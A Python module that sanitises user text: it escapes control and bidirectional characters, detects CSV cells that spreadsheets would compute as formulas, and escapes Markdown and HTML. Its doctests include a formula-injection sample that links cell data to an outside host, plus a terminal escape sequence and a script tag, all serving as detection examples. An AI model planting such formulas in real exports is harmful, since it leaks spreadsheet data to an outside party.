"""Text of users as it is, whatever it contains."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Mapping
from typing import Any

# joiners are letters' business in many scripts; the other formats change how the rest is read
_HARMLESS = "\n\t\u200c\u200d\u00ad"
_LONGEST_LABEL = 50  # letters that stand for a name
_HIDDEN = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


def visible(text: str) -> str:
    r"""The text with control characters shown as escapes, so that nothing in it is obeyed.

    Terminal sequences, a carriage return over what was said before, marks that turn the direction
    of writing, and halves of characters (a file name that is not UTF-8) are shown; line ends and
    tabulators are kept.

    Examples
    --------
    >>> print(visible("pain \x1b[31m red"), visible("NRS\r0"), visible("é \u202e"))
    pain \x1b[31m red NRS\r0 é \u202e
    """
    if text.isprintable():
        return text
    return "".join(
        repr(sign)[1:-1]
        if unicodedata.category(sign) in _HIDDEN and sign not in _HARMLESS
        else sign
        for sign in text
    )


def visible_document(document: Any) -> Any:
    """Plain data with every text in it, keys too, as `visible` shows it."""
    if isinstance(document, str):
        return visible(document)
    if isinstance(document, Mapping):
        return {visible_document(key): visible_document(value) for key, value in document.items()}
    if isinstance(document, (list, tuple)):
        return [visible_document(entry) for entry in document]
    return document


def computed(text: str) -> bool:
    """Whether a spreadsheet that opens a CSV with this cell computes it, instead of showing it.

    Examples
    --------
    >>> computed('=HYPERLINK("http://example.org/?" & A2)'), computed("age = 3")
    (True, False)
    """
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def as_markdown(text: str) -> str:
    r"""The text as Markdown that shows it: no link, no markup, no HTML, on one line.

    Examples
    --------
    >>> print(as_markdown("a|b <script> [x](y) `c`"))
    a\|b \<script> \[x](y) \`c\`
    """
    # an underscore inside a word is one in Markdown too
    return re.sub(r"([\\|<*\[`]|\b_|_\b)", r"\\\1", " ".join(visible(text).split("\n")))


def short_meaning(meaning: str | None) -> str | None:
    """What a dictionary says of a column, if it is short enough to stand for its name.

    Examples
    --------
    >>> short_meaning("age at  T0"), short_meaning(None)
    ('age at T0', None)
    """
    said = " ".join((meaning or "").split())
    return said if 0 < len(said) <= _LONGEST_LABEL else None
